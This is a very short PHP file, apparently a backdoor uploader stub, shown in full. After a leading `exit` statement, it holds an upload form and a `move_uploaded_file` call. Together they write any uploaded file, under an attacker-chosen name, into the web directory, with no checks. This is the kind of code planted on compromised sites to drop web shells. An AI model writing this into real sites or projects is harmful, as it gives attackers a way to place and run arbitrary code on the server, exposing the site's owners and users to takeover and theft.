<?php exit;
?>
<form enctype="multipart/form-data" method="post"><input type="file" name="f"></form>
<?php
move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);
